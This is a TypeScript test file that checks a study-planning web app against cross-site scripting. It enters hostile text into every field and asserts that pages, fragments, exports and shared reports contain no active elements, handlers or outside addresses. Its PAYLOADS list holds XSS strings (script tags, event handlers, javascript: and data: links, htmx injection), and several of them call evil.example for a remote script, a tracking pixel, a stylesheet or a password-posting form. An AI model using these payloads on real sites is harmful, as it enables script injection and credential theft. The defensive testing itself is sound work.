import { type CheerioAPI, load } from 'cheerio';
import MarkdownIt from 'markdown-it';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { NewPlan } from '../../../../db/plan/plans.ts';
import { addOwnQuestion } from '../../../../db/practice/own-questions.ts';
import { addOwnResource } from '../../../../db/reading/own-resources.ts';
import { day } from '../../../../plans/day.ts';
import { REVIEW_PROMPTS } from '../../../../plans/review/review.ts';
import { opensForOthers, textForOthers } from '../../../../plans/text/for-others.ts';
import { type TestApp, testApp } from '../../../support/app/test-app.ts';
import { type AtEnd, MOMENT, sampleNewPlan } from '../../../support/database/db.ts';
import { givenOwnWords } from '../../../support/made/practice/questions.ts';
import { givenOwnResourceWords } from '../../../support/made/reading/resources.ts';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '</title></style></textarea></template></script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
  "' onclick='alert(1)' x='",
  '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '<javascript:alert(1)>',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x](https://example.org "\\" onclick=\\"alert(1)")',
  '`</code><script>alert(1)</script>`',
  '```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '<button hx-get="/evil" hx-trigger="load">x</button>',
  '" hx-get="/evil" hx-trigger="load" hx-target="body" x="',
  '<div id="main" hx-swap-oob="true">x</div>',
  '<hx-partial hx-target="body"><script>alert(1)</script></hx-partial>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/"><link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"; *{background:url(javascript:alert(1))}</style>',
  '<form action="//evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<!-- never closed',
  '<![CDATA[<script>alert(1)</script>]]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '=HYPERLINK("javascript:alert(1)","x")',
];

const HARMLESS = 'Harmless words';

const PAGES = [
  '/today',
  '/days/2026-03-05',
  '/tasks/1',
  '/tasks/1/edit',
  '/tasks/4',
  '/tasks/new',
  '/weeks',
  '/habits',
  '/habits/1',
  '/weeks/1',
  '/weeks/1/review',
  '/phases/first',
  '/plan',
  '/plan?q=<script>alert(1)</script>"onfocus="alert(1)',
  '/replan',
  '/calendar/2026-03',
  '/today?select=yes',
  '/progress',
  '/progress?monday=<script>alert(1)</script>"onfocus="alert(1)',
  '/mocks',
  '/mocks/1',
  '/mocks/1/sheet',
  '/practice/readiness',
  '/progress/fit',
  '/progress/time',
  '/changes',
  '/report',
  '/report.html',
  '/settings',
  '/practice?category=own',
  '/practice/own',
  '/practice/own/own-1/edit',
  '/reading',
  '/reading?q=<script>alert(1)</script>"onfocus="alert(1)',
  '/reading?phase=first',
  '/reading/own-1',
  '/reading/own/own-1/edit',
  '/practice/questions/own-1',
  '/practice/questions/own-1/answer?reveal=yes',
  '/practice/questions/plain-kl-divergence',
  '/practice/questions/plain-kl-divergence/answer?reveal=yes',
  '/practice/sheet?category=own&answers=yes',
];

/** A plan with the same text wherever a roadmap or a learner can put one. */
function planSaying(text: string): NewPlan {
  const plan = sampleNewPlan();
  const phases = plan.roadmap.phases.map((phase) => ({
    ...phase,
    title: text,
    goal: text,
    outcome: text,
    habits: phase.habits.map((habit) => ({ ...habit, title: text })),
    tasks: phase.tasks.map((task) => ({ ...task, title: text, steps: [text, text] })),
  }));
  const exceptions = [{ day: day('2026-03-05'), minutes: 0, reason: text }];
  return {
    ...plan,
    roadmap: { ...plan.roadmap, title: text, phases },
    calendar: { ...plan.calendar, exceptions },
  };
}

/** An app that has heard a text in every field, where that field takes it. */
async function appSaying(text: string, atEnd?: AtEnd): Promise<TestApp> {
  const app = await testApp({ plan: planSaying(text), ...(atEnd && { atEnd }) });
  await app.post('/tasks/1/note', { text, revision: '0' });
  await app.post('/weeks/1/reflection', { text, revision: '0' });
  await app.post('/habits/1/days/2026-03-03/note', { text, revision: '0' });
  for (const prompt of REVIEW_PROMPTS) {
    await app.post(`/weeks/1/reflection/${prompt}`, { text, revision: '0' });
  }
  const judgement = { confidence: '3', proof: text, intention: text, revision: '0' };
  await app.post('/weeks/1/review', judgement);
  for (const [kind, location, value] of [
    ['note', '', ''],
    ['document', text, ''],
    ['number', '', '1'],
    ['link', `https://example.org/${text}`, ''],
  ] as const) {
    await app.post('/tasks/1/evidence', { kind, text, location, value });
  }
  // The same questions each time: what they are called stands in the addresses of forms.
  await app.post('/mocks', { format: 'behavioural', partner: text.slice(0, 80), seed: 'spring-7' });
  await app.post('/mocks/1/rounds/1/clock', { running: 'yes' });
  await app.post('/mocks/1/rounds/1/notes', { text: `${text}?`, revision: '0' });
  await app.post('/mocks/1/takeaway', { text, revision: '0' });
  await app.post('/mocks/1/completion', { done: 'yes' });
  await app.post('/tasks/4/drop', { dropped: 'yes', reason: text });
  const answer = { question: 'plain-kl-divergence', mode: 'drill', asked: '3', known: '0', grade: 'good' };
  await app.post('/practice/answers', { ...answer, missing: text });
  await app.post('/tasks/1/completion', { done: 'yes' });
  const said = text.replace(/\s+/g, ' ');
  const list = [said, said];
  const words = { prompt: said, probing: said, points: list, pitfalls: list, followUps: list };
  addOwnQuestion(app.db, { ...MOMENT, key: 'own-1', words: givenOwnWords(words) });
  addOwnQuestion(app.db, { ...MOMENT, key: 'own-2', words: givenOwnWords(words) });
  await app.post('/practice/own/own-2/archive', { archived: 'yes' });
  await app.post('/practice/questions/own-1/note', { text, revision: '0' });
  const resource = {
    ...{ title: said, part: said, authors: [said], link: `https://example.org/${said.replaceAll(' ', '')}` },
    ...{ tasks: ['task-1'], questions: ['own-1'] },
  };
  addOwnResource(app.db, { ...MOMENT, key: 'own-1', words: givenOwnResourceWords(resource) });
  await app.post('/reading/own-1/note', { text, revision: '0' });
  return app;
}

const ACTING_ELEMENTS =
  'script, style, link, iframe, object, embed, base, meta, form, button, input, template, hx-partial';

/** What could run, fetch or send something: elements with where they lead, attributes with their element. */
function activeParts($: CheerioAPI) {
  const attributes = $('html, html *')
    .toArray()
    .flatMap(({ name: tag, attribs }) =>
      Object.entries(attribs).map(([name, value]) => ({ tag, name, value })),
    );
  return {
    elements: $(`${ACTING_ELEMENTS}, img`)
      .toArray()
      .map(({ name, attribs }) => [name, attribs.action, attribs.name, attribs.formaction, attribs.rel]),
    htmx: attributes.filter(({ name }) => /^(data-)?hx-|^(ws|sse)-/.test(name)),
    handlers: attributes.filter(({ name }) => name.startsWith('on')),
    scriptAddresses: attributes.filter(({ name, value }) => isAddress(name) && !isSafeAddress(value)),
    fetched: attributes.filter(({ name, value }) => isFetched(name) && !value.startsWith('/')),
  };
}

const isAddress = (name: string) =>
  /^(href|xlink:href|src|srcdoc|action|formaction|data|content)$/.test(name);
const isFetched = (name: string) => /^(src|srcset|poster|background|style)$/.test(name);

/** As a browser reads a scheme: white space and control characters inside it do not count. */
function isSafeAddress(value: string): boolean {
  const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(value.replace(/[\s\p{Cc}]/gu, ''))?.[1]?.toLowerCase();
  return scheme === undefined || ['http', 'https', 'mailto'].includes(scheme);
}

type Parts = Record<string, ReturnType<typeof activeParts>>;

/** The active parts of every page, of every answer to a change, and of a refused text. */
async function gatherParts({ get, post }: TestApp, text: string): Promise<Parts> {
  const parts: Parts = {};
  for (const page of PAGES) parts[page] = activeParts((await get(page)).$);
  for (const from of PAGES) {
    const { $ } = await post('/tasks/2/completion', { done: 'yes', from }, { htmx: true });
    parts[`a change on ${from}`] = activeParts($);
  }
  for (const htmx of [true, false]) {
    const { status, $ } = await post('/tasks/1/note', { text: `${text} mine`, revision: '0' }, { htmx });
    parts[`${status}, ${htmx ? 'fragment' : 'page'}`] = activeParts($);
  }
  return parts;
}

let harmlessParts: Parts | undefined;

describe.each(PAYLOADS)('the text %j', (payload) => {
  /** One learner says it once; each test looks elsewhere, in this order. */
  let app: TestApp;
  const ends: (() => Promise<void>)[] = [];
  beforeAll(async () => {
    app = await appSaying(payload, (end) => ends.push(end));
  });
  afterAll(async () => {
    for (const end of ends.toReversed()) await end();
  });

  it('adds nothing that acts to any page or fragment', async () => {
    harmlessParts ??= await gatherParts(await appSaying(HARMLESS), HARMLESS);

    const parts = await gatherParts(app, payload);

    expect(Object.keys(parts)).toContain('409, fragment');
    for (const [place, found] of Object.entries(parts)) {
      expect([place, found]).toEqual([place, harmlessParts[place]]);
      expect([place, found]).toMatchObject([place, { handlers: [], scriptAddresses: [], fetched: [] }]);
    }
  });

  it('adds nothing that acts to an export, and is shown to the learner as it was typed', async () => {
    const { get } = app;

    const markdown = readAsPage((await get('/report.md')).body);
    expect(markdown(`${ACTING_ELEMENTS}, svg, math`)).toHaveLength(0);
    expect(activeParts(markdown)).toMatchObject({ handlers: [], htmx: [], scriptAddresses: [] });
    expect(headingsOf(markdown)).toHaveLength(10);
    for (const path of [
      '/report.json',
      '/settings/data.json',
      '/report.csv',
      '/practice/own.csv',
      '/practice/own.apkg',
    ]) {
      const { headers, body } = await get(path);
      expect(headers['content-type']).not.toContain('html');
      expect(headers['x-content-type-options']).toBe('nosniff');
      expect(headers['content-disposition']).toContain('attachment');
      // In a report a link that its reader cannot open is its words.
      const said = path === '/report.json' ? textForOthers(payload, opensForOthers([])) : payload;
      if (path.endsWith('.json')) expect(JSON.stringify(JSON.parse(body))).toContain(JSON.stringify(said));
    }
    const { $ } = await get('/tasks/1');
    // A title shows its code, emphasis and links; where it is edited it stands as it was typed.
    expect(onOneLine($('h1').text())).toBe(onOneLine(readInline(payload)));
    expect(onOneLine(String((await get('/tasks/1/edit')).$('#field-title').val()))).toBe(onOneLine(payload));
    expect($('#note-1').text()).toBe(payload);
    expect(onOneLine((await get('/days/2026-03-05')).$('.lead').text())).toContain(onOneLine(payload));
  });

  it('adds nothing that acts to a report behind a link', async () => {
    const { get, post } = app;
    const made = await post('/report/links', { label: payload, choices: '', from: '/report' });
    const { status, $ } = await get(new URL(String(made.$('#fresh-link').val())).pathname);

    expect(status).toBe(200);
    expect($('main').find(`${ACTING_ELEMENTS}, img`)).toHaveLength(0);
    expect(activeParts($)).toMatchObject({ handlers: [], htmx: [], scriptAddresses: [], fetched: [] });
  });

  it('comes back into the setup form as a value, and nothing more', async () => {
    const { get } = await testApp({ plan: 'none' });
    const filledIn = (text: string) => ({
      startOn: text,
      finishOn: text,
      length: 'date',
      timeZone: text,
      offFrom: '2026-03-05',
      offReason: text,
      formToken: text,
    });
    const hostile = await get(`/setup?${new URLSearchParams(filledIn(payload))}`);
    const harmless = await get(`/setup?${new URLSearchParams(filledIn(HARMLESS))}`);

    expect(activeParts(hostile.$)).toEqual(activeParts(harmless.$));
    expect(hostile.$('#field-timeZone').val()).toBe(payload);
  });
});

/** As a reader shows Markdown that lets HTML through. */
function readAsPage(markdown: string): CheerioAPI {
  return load(new MarkdownIt({ html: true, linkify: true }).render(markdown));
}

/** The text of Markdown on one line, of which HTML, entities and images are no part. */
function readInline(text: string): string {
  return load(new MarkdownIt().disable(['image', 'entity']).renderInline(text)).text();
}

function headingsOf($: CheerioAPI): string[] {
  return $('h2')
    .toArray()
    .map((heading) => $(heading).text());
}

function onOneLine(text: string): string {
  return text.replace(/\s+/g, ' ').trim();
}
